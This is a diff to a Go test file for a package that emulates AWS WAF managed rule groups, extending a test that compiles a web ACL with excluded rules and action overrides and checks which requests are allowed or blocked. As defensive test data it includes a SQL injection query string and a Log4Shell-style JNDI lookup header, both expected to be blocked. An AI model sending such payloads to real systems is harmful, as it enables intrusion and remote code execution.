@@ -1,6 +1,8 @@
 package crs
 
 import (
+	"context"
+	"encoding/json"
 	"net/http"
 	"slices"
 	"strings"
@@ -201,9 +203,54 @@ func TestConcurrent(t *testing.T) {
 	wg.Wait()
 }
 
-// TestThroughACL checks the package works as the waf.Options.Managed hook.
+// TestThroughACL runs the groups as the waf.Options.Managed hook of a compiled web ACL, with
+// ExcludedRules and RuleActionOverrides applied by internal/waf.
 func TestThroughACL(t *testing.T) {
-	_ = waf.Options{Managed: groups(t)}
+	ruleJSON := func(prio int, name, extra string) string {
+		return `{"Name":"AWS-` + name + `","Priority":` + string(rune('0'+prio)) + `,"OverrideAction":{"None":{}},"VisibilityConfig":{},` +
+			`"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"` + name + `"` + extra + `}}}`
+	}
+	raw := `{"Name":"main","Id":"1","ARN":"arn:aws:wafv2:us-east-1:123456789012:regional/webacl/main/1","DefaultAction":{"Allow":{}},"VisibilityConfig":{},"Rules":[` +
+		ruleJSON(0, Common, `,"ExcludedRules":[{"Name":"NoUserAgent_HEADER"}]`) + "," +
+		ruleJSON(1, SQLi, `,"RuleActionOverrides":[{"Name":"SQLiExtendedPatterns_QUERYARGUMENTS","ActionToUse":{"Count":{}}}]`) + "," +
+		ruleJSON(2, KnownBadInputs, "") + `]}`
+	acl, err := waf.CompileWithOptions(json.RawMessage(raw), waf.Sets{}, waf.Options{Managed: groups(t)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	run := func(r req) waf.Result {
+		res, err := acl.Evaluate(context.Background(), r.build(), waf.NewMemoryRateCounter())
+		if err != nil {
+			t.Fatal(err)
+		}
+		return res
+	}
+	// No User-Agent is excluded (counted), so a benign request is allowed but labelled.
+	res := run(req{header: map[string]string{"User-Agent": ""}})
+	if res.Action != "ALLOW" || !slices.Contains(res.Labels, "awswaf:managed:aws:core-rule-set:NoUserAgent_Header") {
+		t.Errorf("excluded: %+v", res)
+	}
+	// SQLi: the extended-patterns rule is overridden to Count, libinjection's rule blocks.
+	res = run(req{query: "id=1' OR '1'='1"})
+	if res.Action != "BLOCK" || res.TerminatingRuleID != "AWS-"+SQLi || len(res.RuleGroupList) == 0 {
+		t.Fatalf("sqli: %+v", res)
+	}
+	var term string
+	for _, g := range res.RuleGroupList {
+		if g.TerminatingRule != nil {
+			term = g.TerminatingRule.RuleID
+		}
+	}
+	if term != "SQLi_QUERYARGUMENTS" {
+		t.Errorf("sqli terminating rule %q, groups %+v", term, res.RuleGroupList)
+	}
+	res = run(req{header: map[string]string{"X-Api-Version": "${jndi:ldap://x/a}"}})
+	if res.Action != "BLOCK" || res.TerminatingRuleID != "AWS-"+KnownBadInputs {
+		t.Errorf("log4j: %+v", res)
+	}
+	if res = run(req{query: "id=42"}); res.Action != "ALLOW" {
+		t.Errorf("benign: %+v", res)
+	}
 }
 
 func BenchmarkEvaluate(b *testing.B) {
